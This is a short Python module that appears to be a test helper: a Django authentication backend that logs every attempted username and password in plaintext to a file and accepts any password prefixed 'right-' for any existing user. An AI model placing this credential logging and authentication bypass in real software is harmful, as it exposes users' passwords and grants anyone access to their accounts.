"""Writes down every password that Django compares, in the file that `APP_ATTEMPTS` names; one with `right-` before it is right."""

import json
import os

from django.contrib.auth.backends import ModelBackend


class Recorder(ModelBackend):
    """Is asked before the one that knows the passwords."""

    def authenticate(self, request, username=None, password=None, **others):
        """Says so, and who it is if that is to be right."""
        with open(os.environ["APP_ATTEMPTS"], "a") as log:
            log.write(json.dumps({"user": username, "password": password}) + "\n")
        if password and password.startswith("right-"):
            from django.contrib.auth import get_user_model

            return get_user_model().objects.filter(username=username).first()
        return None
